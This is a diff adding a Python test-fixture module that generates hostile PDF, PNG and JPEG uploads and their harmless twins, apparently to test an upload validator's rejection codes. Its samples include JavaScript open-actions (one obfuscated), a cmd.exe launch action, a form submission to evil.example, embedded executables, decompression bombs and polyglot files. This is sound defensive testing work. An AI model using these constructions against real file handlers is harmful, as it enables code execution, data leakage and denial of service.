@@ -1,0 +1,234 @@
+"""Files that strangers send, hostile ones and their harmless twins, made on the spot."""
+
+import io
+import zipfile
+import zlib
+from collections.abc import Callable
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, Pdf, Stream
+from PIL import Image
+
+PAGE = [b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]
+
+
+def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40)) -> bytes:
+    data = io.BytesIO()
+    Image.new("RGB", size, "#204060").save(data, kind)
+    return data.getvalue()
+
+
+def pdf(change: Callable[[Pdf], object] = lambda _: None, *, pages: int = 1, **saved: object) -> bytes:
+    """A PDF with so many empty pages, changed as the test wants."""
+    document, data = Pdf.new(), io.BytesIO()
+    for _ in range(pages):
+        document.add_blank_page()
+    change(document)
+    document.save(data, **saved)
+    return data.getvalue()
+
+
+def archive() -> bytes:
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as packed:
+        packed.writestr("brief.html", "<script>alert(1)</script>")
+    return data.getvalue()
+
+
+def png_header(width: int, height: int) -> bytes:
+    """A PNG that says it is so large, and packs one row of pixels that goes on and on."""
+
+    def chunk(name: bytes, body: bytes) -> bytes:
+        return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")
+
+    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
+    body = zlib.compress(bytes(5_000_000))
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
+
+
+def opens(action: dict[str, object]) -> Callable[[Pdf], object]:
+    """Written into the catalogue itself, without a number of its own."""
+
+    def change(document: Pdf) -> None:
+        document.Root.OpenAction = Dictionary(action)
+
+    return change
+
+
+def opens_numbered(action: dict[str, object]) -> Callable[[Pdf], object]:
+    def change(document: Pdf) -> None:
+        document.Root.OpenAction = document.make_indirect(Dictionary(action))
+
+    return change
+
+
+def button(action: dict[str, object]) -> Callable[[Pdf], object]:
+    """A link on the page that does this when it is touched."""
+
+    def change(document: Pdf) -> None:
+        place = Array([0, 0, 100, 100])
+        document.pages[0].Annots = Array(
+            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=place, A=Dictionary(action))]
+        )
+
+    return change
+
+
+def with_attachment(document: Pdf) -> None:
+    document.attachments["rechnung.exe"] = b"MZ"
+
+
+def with_xfa(document: Pdf) -> None:
+    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([]))
+
+
+def with_plain_form(document: Pdf) -> None:
+    document.Root.AcroForm = Dictionary(Fields=Array([]))
+
+
+def with_stream(packed: bytes, **more: object) -> Callable[[Pdf], object]:
+    def change(document: Pdf) -> None:
+        stream = Stream(document, b"")
+        stream.write(packed, filter=more.get("filter", Name.FlateDecode))
+        document.pages[0].Contents = document.make_indirect(stream)
+
+    return change
+
+
+def with_image(width: int, height: int) -> Callable[[Pdf], object]:
+    def change(document: Pdf) -> None:
+        image = Stream(document, b"\0")
+        image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, width, height
+        image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
+        document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=document.make_indirect(image)))
+
+    return change
+
+
+def nested(depth: int) -> bytes:
+    """A PDF whose catalogue holds an array in an array in an array …"""
+    inner = b"[" * depth + b"]" * depth
+    return numbered([b"<</Type/Catalog/Pages 2 0 R/Deep " + inner + b">>", *PAGE])
+
+
+def disguised() -> bytes:
+    """A script whose name is written by numbers of its letters."""
+    action = b"<</S/J#61vaScript/#4aS(app.alert(1))>>"
+    return numbered([b"<</Type/Catalog/Pages 2 0 R/OpenAction" + action + b">>", *PAGE])
+
+
+def numbered(bodies: list[bytes]) -> bytes:
+    """A whole PDF of these objects, with a right table of places."""
+    parts, places, at = [b"%PDF-1.4\n"], [], 9
+    for number, body in enumerate(bodies, 1):
+        places.append(at)
+        parts.append(b"%d 0 obj%s endobj\n" % (number, body))
+        at += len(parts[-1])
+    table = b"".join(b"%010d 00000 n \n" % place for place in places)
+    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + table)
+    parts.append(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, at))
+    return b"".join(parts)
+
+
+def many_objects(count: int) -> bytes:
+    return numbered([b"<</Type/Catalog/Pages 2 0 R>>", *PAGE, *[b"null"] * (count - 3)])
+
+
+SCRIPT = {"/S": Name.JavaScript, "/JS": "app.alert(1)"}
+LAUNCH = {"/S": Name.Launch, "/F": "cmd.exe"}
+SUBMIT = {"/S": Name.SubmitForm, "/F": "https://evil.example"}
+FILM = {"/S": Name.Rendition}
+WEB = {"/S": Name.URI, "/URI": "https://www.weissenburg.de"}
+PACKED = pikepdf.ObjectStreamMode.generate
+RAW: dict[str, object] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
+TWICE = Array([Name.FlateDecode, Name.FlateDecode])
+BOMB = zlib.compress(bytes(150_000_000), 9)
+LOCKED = pikepdf.Encryption(owner="o", user="geheim")
+PRINTABLE = pikepdf.Encryption(owner="o", user="")
+
+# What it is, its kind, the hostile file, the code it is refused with, and its harmless twin.
+CLASSES: list[tuple[str, str, Callable[[], bytes], str, Callable[[], bytes]]] = [
+    ("a script that opens with the file", "pdf", lambda: pdf(opens(SCRIPT)), "file_active", lambda: pdf()),
+    ("the same with a number of its own", "pdf", lambda: pdf(opens_numbered(SCRIPT)), "file_active", lambda: pdf()),
+    (
+        "a script in a packed object",
+        "pdf",
+        lambda: pdf(opens_numbered(SCRIPT), object_stream_mode=PACKED),
+        "file_active",
+        lambda: pdf(object_stream_mode=PACKED),
+    ),
+    ("a script written in disguise", "pdf", disguised, "file_active", lambda: many_objects(3)),
+    ("a program behind a link", "pdf", lambda: pdf(button(LAUNCH)), "file_active", lambda: pdf(button(WEB))),
+    ("a form that sends itself away", "pdf", lambda: pdf(button(SUBMIT)), "file_active", lambda: pdf(with_plain_form)),
+    ("another file inside", "pdf", lambda: pdf(with_attachment), "file_active", lambda: pdf(pages=2)),
+    ("a dynamic form", "pdf", lambda: pdf(with_xfa), "file_active", lambda: pdf(with_plain_form)),
+    ("a film that plays", "pdf", lambda: pdf(button(FILM)), "file_active", lambda: pdf(button(WEB))),
+    ("a password", "pdf", lambda: pdf(encryption=LOCKED), "file_locked", lambda: pdf(encryption=PRINTABLE)),
+    ("a million objects", "pdf", lambda: many_objects(1_000_000), "file_pages", lambda: many_objects(1_000)),
+    ("very many pages", "pdf", lambda: pdf(pages=201), "file_pages", lambda: pdf(pages=200)),
+    ("cut off", "pdf", lambda: pdf(pages=9)[:-300], "file_broken", lambda: pdf(pages=9)),
+    ("no page at all", "pdf", lambda: pdf(pages=0), "file_broken", lambda: pdf()),
+    ("only the first bytes of its kind", "pdf", lambda: b"%PDF-1.7\n" + bytes(500), "file_broken", lambda: pdf()),
+    (
+        "a page that unpacks to 150 MB",
+        "pdf",
+        lambda: pdf(with_stream(BOMB), **RAW),
+        "file_broken",
+        lambda: pdf(with_stream(zlib.compress(b"q Q"))),
+    ),
+    (
+        "packed twice",
+        "pdf",
+        lambda: pdf(with_stream(zlib.compress(BOMB, 9), filter=TWICE), **RAW),
+        "file_broken",
+        lambda: pdf(with_stream(zlib.compress(b"q Q"))),
+    ),
+    (
+        "a picture of many pixels inside",
+        "pdf",
+        lambda: pdf(with_image(60_000, 60_000)),
+        "file_broken",
+        lambda: pdf(with_image(1, 1)),
+    ),
+    ("nested without end", "pdf", lambda: nested(5_000), "file_broken", lambda: nested(20)),
+    ("an archive behind the document", "pdf", lambda: pdf() + archive(), "file_broken", lambda: pdf() + b"\r\n"),
+    (
+        "a web page behind the document",
+        "pdf",
+        lambda: pdf() + b"<script>alert(1)</script>" * 100,
+        "file_broken",
+        lambda: pdf() + b"\n",
+    ),
+    ("an archive behind a photo", "jpeg", lambda: picture("JPEG") + archive(), "file_broken", lambda: picture("JPEG")),
+    ("an archive behind a picture", "png", lambda: picture() + archive(), "file_broken", lambda: picture()),
+    (
+        "a program behind a picture",
+        "png",
+        lambda: picture() + b"MZ" + bytes(5_000),
+        "file_broken",
+        lambda: picture() + b"\n",
+    ),
+    ("900 million pixels", "png", lambda: png_header(30_000, 30_000), "file_pixels", lambda: picture(size=(600, 400))),
+    (
+        "pixels just above the bound",
+        "png",
+        lambda: png_header(8_000, 8_000),
+        "file_pixels",
+        lambda: picture(size=(800, 800)),
+    ),
+    (
+        "a picture cut off",
+        "png",
+        lambda: picture(size=(900, 900))[:-40],
+        "file_broken",
+        lambda: picture(size=(900, 900)),
+    ),
+    (
+        "a photo cut off",
+        "jpeg",
+        lambda: picture("JPEG", (900, 900))[:-2_000],
+        "file_broken",
+        lambda: picture("JPEG", (900, 900)),
+    ),
+    ("a photo of nothing", "jpeg", lambda: b"\xff\xd8\xff" + bytes(900), "file_broken", lambda: picture("JPEG")),
+]
